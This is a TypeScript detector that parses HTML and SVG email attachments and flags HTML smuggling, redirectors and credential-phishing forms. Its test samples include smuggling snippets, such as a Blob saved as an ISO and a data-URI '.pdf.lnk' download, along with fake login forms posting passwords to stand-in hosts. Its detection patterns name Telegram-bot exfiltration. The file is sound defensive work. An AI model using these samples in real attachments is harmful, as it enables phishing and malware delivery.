import { Parser } from 'htmlparser2';
import { sniffType } from '../../parse/sniff.ts';
import { contentKind } from './content-kind.ts';

/**
 * HTML (and SVG) files sent as attachments open in the browser from the local disk, out of
 * reach of URL filters. Phishing uses them three ways: a local fake login form, a redirector
 * to a remote login page, and "HTML smuggling" (script that assembles a payload inside the
 * browser and saves it). Rules are data: each carries the samples it must and must not match.
 */

export interface HtmlDocument {
  /** All script code: <script> bodies, on* handlers and javascript: URLs. */
  script: string;
  /** Code that runs as the page loads: <script> bodies and load/error handlers (not click handlers). */
  loadScript: string;
  /** Characters of visible text (outside script, style and head). */
  textChars: number;
  /** The whole markup, for patterns that live outside scripts (data: downloads, huge inline payloads). */
  markup: string;
  formActions: string[];
  inputs: { type: string; name: string }[];
  downloadLinks: string[];
  refreshTargets: string[];
  iframes: string[];
  isSvg: boolean;
}

export function parseHtmlAttachment(content: string): HtmlDocument {
  const doc: HtmlDocument = { script: '', loadScript: '', textChars: 0, markup: content, formActions: [], inputs: [], downloadLinks: [], refreshTargets: [], iframes: [], isSvg: false };
  const scripts: string[] = [];
  const loadScripts: string[] = [];
  let firstElement = '';
  let inScript = false;
  let quiet = 0;
  const parser = new Parser(
    {
      onopentag(name, attrs) {
        // An SVG file, not a web page with inline SVG icons.
        if (!firstElement) {
          firstElement = name;
          doc.isSvg = name === 'svg';
        }
        if (name === 'script') inScript = true;
        if (name === 'script' || name === 'style' || name === 'head' || name === 'title') quiet++;
        for (const [k, v] of Object.entries(attrs)) {
          if (/^on[a-z]+$/.test(k)) scripts.push(v);
          if (/^on(load|pageshow|error|readystatechange)$/.test(k)) loadScripts.push(v);
          if ((k === 'href' || k === 'src' || k === 'action' || k === 'xlink:href') && /^\s*javascript:/i.test(v)) scripts.push(v.replace(/^\s*javascript:/i, ''));
        }
        if (name === 'form') doc.formActions.push((attrs.action ?? '').trim());
        else if (name === 'input') doc.inputs.push({ type: (attrs.type ?? 'text').toLowerCase(), name: `${attrs.name ?? ''} ${attrs.id ?? ''} ${attrs.placeholder ?? ''}`.toLowerCase() });
        else if ((name === 'a' || name === 'area') && attrs.download !== undefined) doc.downloadLinks.push(attrs.href ?? '');
        else if (name === 'iframe' || name === 'frame' || name === 'embed' || name === 'object') doc.iframes.push((attrs.src ?? attrs.data ?? '').trim());
        else if (name === 'meta' && (attrs['http-equiv'] ?? '').toLowerCase() === 'refresh') {
          const m = /url\s*=\s*['"]?([^'"\s>]+)/i.exec(attrs.content ?? '');
          if (m) doc.refreshTargets.push(m[1]);
        }
      },
      ontext(text) {
        if (inScript) {
          scripts.push(text);
          loadScripts.push(text);
        } else if (quiet === 0) doc.textChars += text.replace(/\s+/g, ' ').trim().length;
      },
      onclosetag(name) {
        if (name === 'script') inScript = false;
        if ((name === 'script' || name === 'style' || name === 'head' || name === 'title') && quiet > 0) quiet--;
      },
    },
    { decodeEntities: true, lowerCaseAttributeNames: true, recognizeSelfClosing: true },
  );
  parser.write(content);
  parser.end();
  doc.script = scripts.join('\n');
  doc.loadScript = loadScripts.join('\n');
  return doc;
}

export interface HtmlRule {
  id: string;
  signal: 'HTML_SMUGGLING' | 'HTML_ATTACHMENT_FORM';
  /** Plain-words finding for the evidence. */
  says: string;
  factor: number;
  /** Returns a short detail (the host, the pattern) when the rule matches, null otherwise. */
  match: (doc: HtmlDocument) => string | null;
  positives: string[];
  negatives: string[];
}

const REMOTE = /^\s*(https?:)?\/\/[^/\s'"]+/i;
const hostOf = (url: string) => /^\s*(?:https?:)?\/\/([^/\s'"?#:]+)/i.exec(url)?.[1]?.toLowerCase() ?? '';
const LARGE_BASE64 = /[A-Za-z0-9+/]{2000,}={0,2}/g;
// File names a smuggling page hands to the browser's save dialog. Script and page names
// (".js", ".html") are left out: bundled web code is full of them.
const RISKY_FILE_LITERAL = /['"`][^'"`\s\\/]{1,80}\.(iso|img|vhdx?|zip|rar|7z|gz|exe|scr|msi|jse|vbs|vbe|wsf|hta|lnk|one|jar|docm|xlsm|dotm|pptm|bat|cmd|ps1|cab|chm)['"`]/i;
// A redirector is a near-empty page; a saved article that happens to contain navigation code is not.
const REDIRECTOR_MAX_TEXT = 1000;

/**
 * Large base64 blocks that decode to a file worth smuggling (program, archive, disk image,
 * Office/PDF document, another web page). Chart data and inline images decode to nothing
 * recognisable, which keeps saved reports and exported dashboards out.
 */
function smuggledPayload(doc: HtmlDocument): string | null {
  // Payloads are often split into concatenated literals: "AAAA" + "BBBB".
  const joined = `${doc.script}\n${doc.markup.length < 8 * 1024 * 1024 ? doc.markup : ''}`.replace(/['"`]\s*\+\s*['"`]/g, '');
  let checked = 0;
  for (const m of joined.matchAll(LARGE_BASE64)) {
    if (++checked > 50) break;
    const before = joined.slice(Math.max(0, m.index - 40), m.index);
    if (/data:(image|font)\//i.test(before)) continue;
    const head = Buffer.from(m[0].slice(0, 64 * 1024), 'base64');
    const kind = contentKind(sniffType(head));
    if (['executable', 'disk-image', 'zip', 'archive', 'ole', 'ooxml', 'rtf', 'pdf', 'html', 'svg'].includes(kind.kind)) return kind.label;
  }
  return null;
}
const CREDENTIAL_FIELD = /pass|pwd|login|user|e-?mail|account|otp|pin\b/;

export const HTML_RULES: HtmlRule[] = [
  {
    id: 'blob-save',
    signal: 'HTML_SMUGGLING',
    says: 'builds a file inside the browser and saves it to disk (HTML smuggling)',
    factor: 1,
    match: (d) => {
      if (!/\bBlob\b/.test(d.script)) return null;
      const save = /msSaveOrOpenBlob|msSaveBlob|createObjectURL/.exec(d.script);
      const name = RISKY_FILE_LITERAL.exec(d.script);
      return save && name ? `${save[0]}, ${name[0].slice(1, -1)}` : null;
    },
    positives: [
      `<script>var b=new Blob([bytes],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script>`,
      `<script>if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(new Blob([d]),"scan.zip")}</script>`,
    ],
    negatives: [
      `<html><body><p>Your appointment is on Tuesday 4 March at 10:30, Outpatients Building B.</p></body></html>`,
      // An exported chart's "download as PNG" button.
      `<script>function dl(){var b=new Blob([svg],{type:'image/svg+xml'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download=title+'.png';a.click();}</script>`,
    ],
  },
  {
    id: 'large-payload-decode',
    signal: 'HTML_SMUGGLING',
    says: 'carries a hidden file encoded in the page and decodes it with script',
    factor: 1,
    match: (d) => {
      if (!/\batob\s*\(|base64ToBlob|base64ToArrayBuffer|b64toBlob|decodeBase64|Uint8Array/.test(d.script)) return null;
      const payload = smuggledPayload(d);
      return payload ? `hidden ${payload}` : null;
    },
    positives: [`<script>var p="${Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(2000, 7)]).toString('base64')}";var raw=atob(p);</script>`],
    negatives: [
      `<img src="data:image/png;base64,${'iVBO'.repeat(600)}"><script>var x = atob(s);</script>`,
      // Chart data encoded as base64 floats, decoded by the charting library.
      `<script>var fig={"y":{"dtype":"f8","bdata":"${Buffer.alloc(3000, 0x3f).toString('base64')}"}};var v=new Float64Array(Uint8Array.from(atob(fig.y.bdata),c=>c.charCodeAt(0)).buffer);</script>`,
    ],
  },
  {
    id: 'data-uri-download',
    signal: 'HTML_SMUGGLING',
    says: 'downloads or opens a file embedded as a data: URI',
    factor: 1,
    match: (d) => {
      const link = d.downloadLinks.find((h) => /^\s*data:(?!image\/(png|jpe?g|gif|webp)|text\/(plain|csv))/i.test(h));
      if (link) return link.slice(0, 40);
      const nav = /(location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*['"`]data:/i.exec(d.script);
      return nav ? nav[0] : null;
    },
    positives: [
      `<a id="x" download="Invoice.pdf.lnk" href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA">Download</a>`,
      `<script>window.location.href = "data:text/html;base64,PGh0bWw+PC9odG1sPg==";</script>`,
    ],
    negatives: [
      `<a download href="https://portal.stmarys-health.org/leaflets/diabetes.pdf">Leaflet</a>`,
      `<a download="ward-rota.csv" href="data:text/csv;charset=utf-8,Name%2CShift">Download the rota as CSV</a>`,
    ],
  },
  {
    id: 'remote-redirect',
    signal: 'HTML_SMUGGLING',
    says: 'sends the reader to a remote web page as soon as it is opened',
    factor: 0.8,
    match: (d) => {
      if (d.textChars > REDIRECTOR_MAX_TEXT) return null;
      const js = /(?:window\.|document\.|top\.|self\.)?location(?:\.href)?\s*=\s*['"`]((?:https?:)?\/\/[^'"`\s]+)|location\.(?:replace|assign)\s*\(\s*['"`]((?:https?:)?\/\/[^'"`\s]+)|window\.open\s*\(\s*['"`]((?:https?:)?\/\/[^'"`\s]+)/i.exec(d.loadScript);
      if (js) return hostOf(js[1] ?? js[2] ?? js[3]);
      const refresh = d.refreshTargets.find((t) => REMOTE.test(t));
      if (refresh) return hostOf(refresh);
      const frame = d.textChars < 200 ? d.iframes.find((t) => REMOTE.test(t)) : undefined;
      return frame ? hostOf(frame) : null;
    },
    positives: [
      `<html><head><meta http-equiv="refresh" content="0; url=https://login-micros0ft.example/auth"></head></html>`,
      `<script>window.location.href = "https://secure-docs.example/view?id=12";</script>`,
      `<body style="margin:0"><iframe src="https://sharepoint-files.example/o365" width="100%" height="100%"></iframe></body>`,
    ],
    negatives: [
      `<p>Visit <a href="https://www.stmarys-health.org/visiting">our visiting page</a>.</p>`,
      `<p>Book online:</p><button onclick="window.location.href='https://booking.stmarys-health.org/'">Book</button>`,
      `<h1>Annual report</h1><p>${'Our wards treated more patients than ever this year. '.repeat(40)}</p><iframe src="https://www.youtube.com/embed/abc"></iframe>`,
    ],
  },
  {
    id: 'obfuscated-script',
    signal: 'HTML_SMUGGLING',
    says: 'contains heavily obfuscated script',
    factor: 0.8,
    match: (d) => {
      const m =
        /document\.write\s*\(\s*(?:unescape|decodeURIComponent)\s*\(\s*['"](?:%[0-9a-f]{2}){50,}/i.exec(d.script) ??
        /document\.write\s*\(\s*atob\s*\(/i.exec(d.script) ??
        /eval\s*\(\s*(?:atob|unescape|decodeURIComponent)\s*\(/i.exec(d.script) ??
        /(?:%[0-9a-f]{2}){150,}|(?:\\x[0-9a-f]{2}){150,}|(?:\\u[0-9a-f]{4}){100,}/i.exec(d.script) ??
        /String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){100,}/.exec(d.script);
      return m ? m[0].slice(0, 40) : null;
    },
    positives: [`<script>document.write(unescape('${'%3C%68%74%6D%6C%3E'.repeat(12)}'));</script>`, `<script>eval(atob("YWxlcnQoMSk="))</script>`],
    negatives: [
      `<script>var q = encodeURIComponent(document.getElementById('s').value);</script>`,
      // The 2008-era Google Analytics snippet, found in many saved web pages.
      `<script>var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www."); document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
    ],
  },
  {
    id: 'svg-script',
    signal: 'HTML_SMUGGLING',
    says: 'runs script',
    factor: 0.8,
    match: (d) => (d.isSvg && /\S/.test(d.script) ? JSON.stringify(d.script.replace(/\s+/g, ' ').trim().slice(0, 40)) : null),
    positives: [`<svg xmlns="http://www.w3.org/2000/svg"><script>var u='aHR0cHM6Ly9ldmls';</script></svg>`],
    negatives: [`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#0a5"/></svg>`],
  },
  {
    id: 'password-input',
    signal: 'HTML_ATTACHMENT_FORM',
    says: 'asks for a password',
    factor: 1,
    match: (d) => (d.inputs.some((i) => i.type === 'password') ? 'password field' : null),
    positives: [`<form action="https://x.example/p.php" method="post"><input name="email"><input type="password" name="pw"></form>`],
    negatives: [`<form action="https://survey.stmarys-health.org/feedback"><textarea name="comments"></textarea></form>`],
  },
  {
    id: 'remote-credential-form',
    signal: 'HTML_ATTACHMENT_FORM',
    says: 'has a form that sends login details to a remote server',
    factor: 1,
    match: (d) => {
      const action = d.formActions.find((a) => REMOTE.test(a));
      if (!action || !d.inputs.some((i) => i.type === 'email' || CREDENTIAL_FIELD.test(i.name))) return null;
      return hostOf(action);
    },
    positives: [`<form action="https://mailbox-verify.example/next.php"><input type="email" name="login"><button>Verify</button></form>`],
    negatives: [`<form action="https://www.stmarys-health.org/search"><input name="q" placeholder="Search"></form>`],
  },
  {
    id: 'script-credential-post',
    signal: 'HTML_ATTACHMENT_FORM',
    says: 'has script that sends typed login details to a server',
    factor: 1,
    match: (d) => {
      const exfil = /api\.telegram\.org\/bot|\$\.(?:ajax|post)\s*\(|fetch\s*\(|XMLHttpRequest|sendBeacon\s*\(/.exec(d.script);
      if (!exfil) return null;
      if (exfil[0].startsWith('api.telegram')) return 'Telegram bot';
      return /pass(word|wd)?\b|\bpwd\b|\.value/i.test(d.script) && (d.inputs.some((i) => CREDENTIAL_FIELD.test(i.name) || i.type === 'password') || /password|passwd|\bpwd\b/i.test(d.script))
        ? exfil[0].replace(/\s*\($/, '')
        : null;
    },
    positives: [`<input id="pw" type="text"><script>$.ajax({url:"https://x.example/n.php",data:{u:email,p:$('#pw').val(), password:1}})</script>`],
    negatives: [`<script>fetch('/api/opening-hours').then(r => r.json()).then(show);</script>`],
  },
];

export interface HtmlVerdict {
  signal: HtmlRule['signal'];
  says: string;
  detail: string;
  factor: number;
}

/**
 * Runs the rules. Forms of known secure-message services (an encrypted-mail envelope posts
 * to its own decryption host) are not credential phishing; their hosts are `trustedHosts`.
 */
export function judgeHtml(doc: HtmlDocument, trustedHosts: string[]): HtmlVerdict[] {
  const trusted = (h: string) => trustedHosts.some((t) => h === t || h.endsWith(`.${t}`));
  const remoteTargets = [...doc.formActions, ...doc.iframes, ...doc.refreshTargets].filter((u) => REMOTE.test(u)).map(hostOf);
  const envelope = remoteTargets.length > 0 && remoteTargets.every(trusted);
  const out: HtmlVerdict[] = [];
  for (const r of HTML_RULES) {
    if (envelope && r.id !== 'blob-save' && r.id !== 'data-uri-download') continue;
    const detail = r.match(doc);
    if (detail !== null && !(r.id === 'remote-redirect' && trusted(detail))) out.push({ signal: r.signal, says: r.says, detail, factor: r.factor });
  }
  return out;
}
